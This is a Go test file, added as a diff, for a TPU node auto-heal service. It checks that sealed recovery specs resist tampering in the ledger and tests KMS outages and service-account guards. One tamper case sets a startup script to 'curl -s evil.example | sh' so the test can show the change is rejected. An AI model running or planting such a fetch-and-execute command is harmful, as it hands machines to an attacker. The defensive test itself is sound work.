@@ -1,0 +1,259 @@
+package remediate_test
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	kms "cloud.google.com/go/kms/apiv1"
+	tpu "google.golang.org/api/tpu/v2"
+	"google.golang.org/grpc/codes"
+
+	"github.com/tpu-autoheal/autoheal/internal/remediate"
+	"github.com/tpu-autoheal/autoheal/internal/seal"
+	"github.com/tpu-autoheal/autoheal/internal/seal/kmsfake"
+	"github.com/tpu-autoheal/autoheal/internal/tpufake"
+)
+
+// tamperStore rewrites the saved spec of the node's recovery the first
+// time a recovery in phase is taken over, and writes it back into the
+// ledger: what a principal who can write the ledger's database does between
+// two looks.
+type tamperStore struct {
+	remediate.Store
+	phase  remediate.Phase
+	tamper func(*remediate.Recovery)
+	done   bool
+}
+
+func (s *tamperStore) Claim(ctx context.Context, req remediate.ClaimRequest) (remediate.Recovery, error) {
+	rec, err := s.Store.Claim(ctx, req)
+	if err != nil || s.done || rec.Phase != s.phase {
+		return rec, err
+	}
+	s.done = true
+	s.tamper(&rec)
+	if err := s.Store.Update(ctx, rec); err != nil {
+		return rec, err
+	}
+	return rec, nil
+}
+
+func localKeys(t *testing.T) *seal.LocalKeys {
+	t.Helper()
+	k, err := seal.NewLocalKeys("test/1", map[string][]byte{"test/1": []byte(strings.Repeat("k", 32))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return k
+}
+
+// errorRecords are the records a person is paged for.
+func errorRecords(all []remediate.Record) []remediate.Record {
+	var out []remediate.Record
+	for _, r := range all {
+		if r.Err != "" {
+			out = append(out, r)
+		}
+	}
+	return out
+}
+
+func TestTamperedSpecIsNeverCreated(t *testing.T) {
+	for _, tc := range []struct {
+		name   string
+		phase  remediate.Phase // when the ledger is written
+		tamper func(*remediate.Recovery)
+		// deletes: the delete requests made (1: the one before the
+		// tampering; a delete retried after it is refused).
+		deletes int
+	}{
+		{"changed service account, after the delete", remediate.PhaseDeleting, func(r *remediate.Recovery) {
+			r.Spec.ServiceAccount.Email = "owner@acme-ml.iam.gserviceaccount.com"
+		}, 1},
+		{"injected startup script, after the delete", remediate.PhaseDeleting, func(r *remediate.Recovery) {
+			r.Spec.Metadata["startup-script"] = "#!/bin/bash\ncurl -s evil.example | sh"
+		}, 1},
+		{"seal removed (as an unsealed old spec)", remediate.PhaseDeleting, func(r *remediate.Recovery) {
+			r.SpecSeal = seal.Seal{}
+		}, 1},
+		{"changed service account, before the retried delete", remediate.PhaseClaimed, func(r *remediate.Recovery) {
+			r.Spec = remediate.CleanSpec(fullNode("TERMINATED"))
+			r.Spec.ServiceAccount.Email = "owner@acme-ml.iam.gserviceaccount.com"
+			r.Phase, r.DeleteSent = remediate.PhaseDeleting, true
+		}, 0},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
+			e.h.Sealer = localKeys(t)
+			ts := &tamperStore{Store: e.store, phase: tc.phase, tamper: tc.tamper}
+			e.h.Store = ts
+			ctx := context.Background()
+			if tc.phase == remediate.PhaseClaimed {
+				// The first delivery dies right after its claim, with a
+				// spec written by someone else in the ledger by the takeover.
+				e.h.Store = &crashingStore{Store: ts, phase: remediate.PhaseDeleting}
+			}
+			_, _ = e.h.Handle(ctx, terminate("e1"))
+			e.h.Store = ts
+			if tc.phase == remediate.PhaseClaimed {
+				e.records = &records{} // the crash's own ERROR record is not the tampering's
+				e.h.Recorder = e.records
+			}
+			e.settle(t)
+			if !ts.done {
+				t.Fatal("the ledger was never tampered with")
+			}
+			wantCounts(t, e.fake, map[string]int{"nodes.create": 0, "nodes.delete": tc.deletes})
+			errs := errorRecords(e.records.list())
+			if len(errs) != 1 {
+				t.Fatalf("ERROR records = %d, want 1: %+v", len(errs), errs)
+			}
+			r := errs[0]
+			if r.Outcome != remediate.OutcomeAbandoned || !strings.Contains(r.Err, "saved spec tampered with") || !strings.Contains(r.Err, "does not verify") {
+				t.Errorf("ERROR record outcome %q err %q; want abandoned, naming the tampering", r.Outcome, r.Err)
+			}
+			if r.Spec == nil {
+				t.Error("the ERROR record carries no spec")
+			}
+			if u, _ := e.store.Unfinished(ctx); len(u) != 0 {
+				t.Errorf("unfinished recoveries = %+v, want none", u)
+			}
+		})
+	}
+}
+
+func TestSealedSpecIsRecreatedAndCarriesItsSeal(t *testing.T) {
+	e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
+	e.h.Sealer = localKeys(t)
+	ctx := context.Background()
+	if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
+		t.Fatal(err)
+	}
+	u, err := e.store.Unfinished(ctx)
+	if err != nil || len(u) != 1 {
+		t.Fatalf("Unfinished = %+v, %v; want the recovery", u, err)
+	}
+	if s := u[0].SpecSeal; s.KeyVersion != "test/1" || len(s.MAC) != 32 {
+		t.Errorf("saved seal = %+v, want an HMAC-SHA256 of key version test/1", s)
+	}
+	e.settle(t)
+	wantCounts(t, e.fake, map[string]int{"nodes.create": 1, "nodes.delete": 1})
+	if errs := errorRecords(e.records.list()); len(errs) != 0 {
+		t.Errorf("ERROR records: %+v", errs)
+	}
+}
+
+// An unsealed spec, as a version before seals saved it: abandoned unless
+// TrustUnsealedSpecs, which seals it at its first check.
+func TestUnsealedSpecOfAnOldVersion(t *testing.T) {
+	for _, trust := range []bool{false, true} {
+		t.Run(map[bool]string{false: "untrusted by default", true: "trusted when configured"}[trust], func(t *testing.T) {
+			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
+			ctx := context.Background()
+			// The old version (no Sealer) deletes and saves an unsealed spec.
+			if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
+				t.Fatal(err)
+			}
+			if u, _ := e.store.Unfinished(ctx); len(u) != 1 || !u[0].SpecSeal.IsZero() {
+				t.Fatalf("old version's recovery = %+v, want one unsealed", u)
+			}
+			e.h.Sealer, e.h.TrustUnsealedSpecs = localKeys(t), trust
+			e.settle(t)
+			creates := 0
+			if trust {
+				creates = 1
+			}
+			wantCounts(t, e.fake, map[string]int{"nodes.create": creates, "nodes.delete": 1})
+			if errs := errorRecords(e.records.list()); len(errs) != 1-creates {
+				t.Errorf("ERROR records = %+v, want %d", errs, 1-creates)
+			}
+		})
+	}
+}
+
+// A KMS outage delays the recovery and never abandons it: five verifies
+// answered UNAVAILABLE, then KMS is back and the node is created.
+func TestKMSOutageDelaysAndDoesNotAbandon(t *testing.T) {
+	const version = "projects/acme-ops/locations/us-central1/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1"
+	srv := kmsfake.New()
+	t.Cleanup(srv.Close)
+	srv.AddVersion(version, []byte(strings.Repeat("s", 32)))
+	client, err := kms.NewKeyManagementClient(context.Background(), srv.ClientOptions()...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { client.Close() })
+	k, err := seal.NewKMS(client, version, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
+	e.h.Sealer = k
+	ctx := context.Background()
+	if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
+		t.Fatal(err)
+	}
+	const outage = 5
+	for range outage {
+		srv.Inject(kmsfake.MacVerify, kmsfake.Fault{Code: codes.Unavailable})
+	}
+	e.settle(t)
+	wantCounts(t, e.fake, map[string]int{"nodes.create": 1, "nodes.delete": 1})
+	verifies := 0
+	for _, c := range srv.Calls() {
+		if c == kmsfake.MacVerify {
+			verifies++
+		}
+	}
+	if verifies != outage+1 {
+		t.Errorf("MacVerify calls = %d, want %d (each refused one retried, then the one that verified)", verifies, outage+1)
+	}
+	for _, r := range e.records.list() {
+		if r.Outcome == remediate.OutcomeAbandoned {
+			t.Errorf("abandoned during a KMS outage: %+v", r)
+		}
+	}
+	if got := lastOf(e.records.list(), e.records.list()[0]); got.Outcome != remediate.OutcomeRecovered {
+		t.Errorf("last outcome %q, want recovered", got.Outcome)
+	}
+}
+
+// A node whose service account the recovery may not use is skipped before
+// anything is claimed or deleted.
+func TestNodeServiceAccountGuard(t *testing.T) {
+	for _, tc := range []struct {
+		name    string
+		allowed []string
+		actAs   map[string]bool
+		skip    string // "" = recreated
+	}{
+		{"listed and actAs held", []string{"trainer@acme-ml.iam.gserviceaccount.com"}, map[string]bool{"trainer@acme-ml.iam.gserviceaccount.com": true}, ""},
+		{"not listed", []string{"other@acme-ml.iam.gserviceaccount.com"}, nil, "is not in AUTOHEAL_NODE_SERVICE_ACCOUNTS"},
+		{"listed but actAs missing", []string{"trainer@acme-ml.iam.gserviceaccount.com"}, map[string]bool{}, "cannot act as trainer@acme-ml.iam.gserviceaccount.com"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
+			e.h.Accounts = &remediate.AccountGuard{Allowed: tc.allowed, ActAs: actAsMap(tc.actAs)}
+			r, err := e.handleSettled(t, terminate("e1"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tc.skip == "" {
+				wantCounts(t, e.fake, map[string]int{"nodes.delete": 1, "nodes.create": 1})
+				return
+			}
+			wantCounts(t, e.fake, map[string]int{"nodes.delete": 0, "nodes.create": 0})
+			if r.Action != remediate.ActionSkip || !strings.Contains(r.Reason, "guard "+remediate.GuardServiceAccounts) || !strings.Contains(r.Reason, tc.skip) {
+				t.Errorf("record %s %q; want skip naming the guard and %q", r.Action, r.Reason, tc.skip)
+			}
+			if u, _ := e.store.Unfinished(context.Background()); len(u) != 0 {
+				t.Errorf("unfinished recoveries = %+v, want none claimed", u)
+			}
+		})
+	}
+}
+
+type actAsMap map[string]bool
+
+func (m actAsMap) CanActAs(_ context.Context, email string) (bool, error) { return m[email], nil }
